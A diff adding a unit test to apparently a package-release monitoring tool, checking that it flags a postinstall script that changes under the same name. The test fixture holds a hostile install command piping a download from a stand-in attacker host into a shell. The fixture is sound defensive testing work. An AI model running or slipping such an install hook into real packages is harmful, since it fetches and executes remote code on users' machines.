@@ -204,6 +204,28 @@ describe('change flags', () => {
     expect(ids(timelineFlags(timeline(pre), context()), '2.0.0-beta.1')).toEqual([]);
   });
 
+  it('flag an install script whose body changed under the same name', () => {
+    const history: ReleaseFacts[] = steady().map((r) => ({
+      ...r,
+      installScripts: ['postinstall'],
+      installScriptText: ['postinstall: node install.js'],
+    }));
+    history.push(
+      release('1.19.1', '2023-09-09T12:00:00.000Z', {
+        installScripts: ['postinstall'],
+        installScriptText: ['postinstall: curl https://evil.example | sh'],
+      }),
+    );
+    const flags = timelineFlags(timeline(history), context());
+    expect(flags.get('pkg:npm/demo@1.19.1')?.map((f) => [f.severity, f.evidence])).toEqual([
+      [
+        'high',
+        'changes what runs at install since 1.19.0 (postinstall: curl https://evil.example | sh)',
+      ],
+    ]);
+    expect(ids(flags, '1.19.0')).toEqual([]);
+  });
+
   it('say a dormant package woke up, and medium when another account wakes it', () => {
     const history = steady().slice(0, 5);
     history.push(release('1.5.0', '2021-11-04T12:00:00.000Z', { publishers: ['person:npm:bob'] }));
